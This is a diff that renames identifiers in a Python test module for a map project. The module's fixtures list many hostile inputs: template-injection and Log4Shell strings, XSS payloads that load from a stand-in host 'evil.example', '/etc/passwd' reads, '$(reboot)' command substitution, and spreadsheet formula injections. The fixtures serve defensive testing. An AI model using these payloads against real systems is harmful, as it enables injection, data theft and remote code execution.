@@ -4,13 +4,18 @@ import json
 
 import yaml
 
-from geo.text.unicode_safety import compose, fold_space, hidden_character, mixed_word
-from tests.support.sample_project import feature, suite
+from geo.text.unicode_safety import (
+    find_hidden_character,
+    find_mixed_script_word,
+    fold_whitespace,
+    normalize_nfc,
+)
+from tests.support.sample_project import make_feature, suite_path
 
-HIT = "https://evil.example"
+EXFILTRATION_URL = "https://evil.example"
 """Where a text that is executed would send a request; no test may see one."""
 
-TEXTS = {
+TEXTS_BY_TARGET = {
     "templates": [
         "{{ 7*191 }}", "{% for x in range(9) %}x{% endfor %}", "{# gone #}", "{{ config.items() }}", "{{ this.get_name() }}",
         "{{ ''.__class__.__mro__[1].__subclasses__() }}", "${7*191}", "#{7*191}", "<%= 7*191 %>", "*{7*191}", "[[${7*191}]]",
@@ -18,13 +23,13 @@ TEXTS = {
         "{% raw %}", "{{ '}}' }}", "{%- include '/etc/passwd' -%}", "${jndi:ldap://evil.example/a}", "$(reboot)", "`reboot`",
     ],
     "markup": [
-        "<b>bold</b>", "<script>alert(1)</script>", f"<script src={HIT}/x.js></script>", "<img src=x onerror=alert(1)>",
-        f"<img src={HIT}/x.png>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<body onload=alert(1)>",
-        "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>", f"<iframe src={HIT}></iframe>", "<math><mtext></table><img src=x onerror=alert(1)>",
+        "<b>bold</b>", "<script>alert(1)</script>", f"<script src={EXFILTRATION_URL}/x.js></script>", "<img src=x onerror=alert(1)>",
+        f"<img src={EXFILTRATION_URL}/x.png>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<body onload=alert(1)>",
+        "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>", f"<iframe src={EXFILTRATION_URL}></iframe>", "<math><mtext></table><img src=x onerror=alert(1)>",
         "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>", "<video><source onerror=alert(1)>", "<marquee onstart=alert(1)>",
         "<a href='javascript:alert(1)'>a</a>", "<form action=javascript:alert(1)><button>b</button>", "<object data=javascript:alert(1)>",
-        f"<meta http-equiv=refresh content='0;url={HIT}'>", f"<base href={HIT}>", f"<link rel=stylesheet href={HIT}/x.css>",
-        f"<style>@import '{HIT}/x.css';*{{display:none}}</style>", f"<embed src={HIT}>", "<template><img src=x onerror=alert(1)></template>",
+        f"<meta http-equiv=refresh content='0;url={EXFILTRATION_URL}'>", f"<base href={EXFILTRATION_URL}>", f"<link rel=stylesheet href={EXFILTRATION_URL}/x.css>",
+        f"<style>@import '{EXFILTRATION_URL}/x.css';*{{display:none}}</style>", f"<embed src={EXFILTRATION_URL}>", "<template><img src=x onerror=alert(1)></template>",
         '"><img src=x onerror=alert(1)>', "'><img src=x onerror=alert(1)>", '" onmouseover="alert(1)', "' autofocus onfocus='alert(1)",
         "<<img src=x onerror=alert(1)//", "<img/src=x/onerror=alert(1)>", "<IMG SRC=X ONERROR=ALERT(1)>", "<img src=`x` onerror=alert(1)>",
         "&lt;img src=x onerror=alert(1)&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "%3Cscript%3Ealert(1)%3C/script%3E", "<plaintext>", "<xmp>",
@@ -39,7 +44,7 @@ TEXTS = {
     ],
     "addresses": ["javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:x", "//evil.example", "file:///etc/passwd"],
     "markdown": [
-        "[a](javascript:alert(1))", f"![a]({HIT}/x.png)", f"<{HIT}>", "**bold** _it_ `code`", "# heading", "> quote", "- item", "1. item", "| a | b |", "---",
+        "[a](javascript:alert(1))", f"![a]({EXFILTRATION_URL}/x.png)", f"<{EXFILTRATION_URL}>", "**bold** _it_ `code`", "# heading", "> quote", "- item", "1. item", "| a | b |", "---",
         ":material/delete:", ":red[red]", "$\\href{javascript:alert(1)}{x}$", "$$x^2$$", "~~gone~~", ":tada:", "[^1]", "\\[x\\]", "    code", "***",
     ],
     "tables": ["=1+1", "+1+1", "-1+1", "@SUM(1)", '=HYPERLINK("https://evil.example")', "=cmd|' /C calc'!A0", "＝1+1", "a;=1+1", '"a","b"', "1e5", "-12.5"],
@@ -51,34 +56,34 @@ TEXTS = {
 }  # fmt: skip
 """By what they are meant to break. Most are old tricks, written anew for the places that text has here."""
 
-ALL = [text for texts in TEXTS.values() for text in texts]
+ALL_TEXTS = [text for texts in TEXTS_BY_TARGET.values() for text in texts]
 
 
-def strings():
+def load_naughty_strings():
     """The Big List of Naughty Strings; the test is skipped where it is not to be had."""
-    return json.loads(suite("blns", "blns.json").read_text(encoding="utf-8"))
+    return json.loads(suite_path("blns", "blns.json").read_text(encoding="utf-8"))
 
 
-def scalar(text):
+def quote_yaml(text):
     """The text as a YAML scalar in double quotes, odd characters escaped."""
     return yaml.safe_dump(text, default_style='"', width=10**6, allow_unicode=False).strip()
 
 
-def is_text(text):
+def is_valid_text(text):
     """Whether a text can be read at all: not empty, and without what a reader cannot see."""
-    return bool(text.strip()) and not hidden_character(compose(text))
+    return bool(text.strip()) and not find_hidden_character(normalize_nfc(text))
 
 
-def is_name(text):
-    return is_text(text) and not mixed_word(compose(text))
+def is_valid_name(text):
+    return is_valid_text(text) and not find_mixed_script_word(normalize_nfc(text))
 
 
-def as_read(text):
+def normalize_text(text):
     """How a text comes back: composed, without white space around it."""
-    return compose(text.strip())
+    return normalize_nfc(text.strip())
 
 
-HEAD = """\
+HEAD_YAML = """\
 map:
   title: {en: "<b>{{ 7*191 }}</b></title></script><!-- ${1}"}
   description: {en: "\\" onload=alert(1) x=\\" {% x %} </script>"}
@@ -87,7 +92,7 @@ map:
   bounds: [10, 40, 20, 50]
 events:
 """
-EVENT = """\
+EVENT_TEMPLATE = """\
   - id: n-{i}
     title: {{en: {text}}}
     date: "2020-03-05"
@@ -105,7 +110,7 @@ EVENT = """\
     status_reason: {text}
     note: {{en: {text}}}
 """
-SOURCE = """\
+SOURCE_TEMPLATE = """\
   - id: s-{i}
     title: {text}
     publisher: {text}
@@ -115,7 +120,7 @@ SOURCE = """\
     rights: full-text
     text: s-{i}.txt
 """
-PLACE = """\
+PLACE_TEMPLATE = """\
   - id: p-{i}
     kind: {text}
     point: [{lon}, {lat}]
@@ -125,7 +130,7 @@ PLACE = """\
     basis: sourced
     citation: {text}
 """
-LAYER = """\
+LAYER_TEMPLATE = """\
   - id: l-{i}
     file: l-{i}.geojson
     title: {{en: {text}}}
@@ -134,40 +139,44 @@ LAYER = """\
     licence: {text}
     note: {{en: {text}}}
 """
-SIDE = 40
+GRID_COLUMNS = 40
 
 
-def carrier(texts):
+def build_project_files(texts):
     """The files of a project in which the i-th text is all that event, source, place and layer i say.
 
     A text that cannot be a name (it mixes scripts) has a plain one beside it; a text that cannot be quoted alone,
     because it stands twice in its source, is quoted with the word before it.
     """
-    files = {"events.yaml": HEAD, "data/sources.yaml": "sources:\n"}
+    files = {"events.yaml": HEAD_YAML, "data/sources.yaml": "sources:\n"}
     files |= {"data/places.yaml": "places:\n", "data/layers.yaml": "layers:\n"}
     for i, text in enumerate(texts):
         body = f"Before {i}.\n{text}\nAfter {i}."
-        quote = text if fold_space(body).count(fold_space(text)) == 1 else f"Before {i}. {text}"
-        lon, lat = 10.1 + i % SIDE * 0.24, 40.1 + i // SIDE * 0.24
+        quote = (
+            text
+            if fold_whitespace(body).count(fold_whitespace(text)) == 1
+            else f"Before {i}. {text}"
+        )
+        lon, lat = 10.1 + i % GRID_COLUMNS * 0.24, 40.1 + i // GRID_COLUMNS * 0.24
         values = {
             "i": i,
-            "text": scalar(text),
-            "name": scalar(text) if is_name(text) else f"Name {i}",
-            "quote": scalar(quote),
+            "text": quote_yaml(text),
+            "name": quote_yaml(text) if is_valid_name(text) else f"Name {i}",
+            "quote": quote_yaml(quote),
             "lon": f"{lon:.2f}",
             "lat": f"{lat:.2f}",
         }
         for file, form in (
-            ("events.yaml", EVENT),
-            ("data/sources.yaml", SOURCE),
-            ("data/places.yaml", PLACE),
-            ("data/layers.yaml", LAYER),
+            ("events.yaml", EVENT_TEMPLATE),
+            ("data/sources.yaml", SOURCE_TEMPLATE),
+            ("data/places.yaml", PLACE_TEMPLATE),
+            ("data/layers.yaml", LAYER_TEMPLATE),
         ):
             files[file] += form.format(**values)
         files[f"data/sources/s-{i}.txt"] = body
         line = {"type": "LineString", "coordinates": [[lon, lat], [lon + 0.1, lat + 0.1]]}
-        names = {"en": [text]} if is_name(text) else {}
-        item = feature(
+        names = {"en": [text]} if is_valid_name(text) else {}
+        item = make_feature(
             line, id=f"f-{i}", names=names, source=text, licence=text, kind="river", status=[]
         )
         files[f"data/geojson/l-{i}.geojson"] = json.dumps(
@@ -176,7 +185,7 @@ def carrier(texts):
     return {name: data.encode() for name, data in files.items()}
 
 
-def write(files, folder):
+def write_files(files, folder):
     """Put a project's files on disk."""
     for name, data in files.items():
         (folder / name).parent.mkdir(parents=True, exist_ok=True)
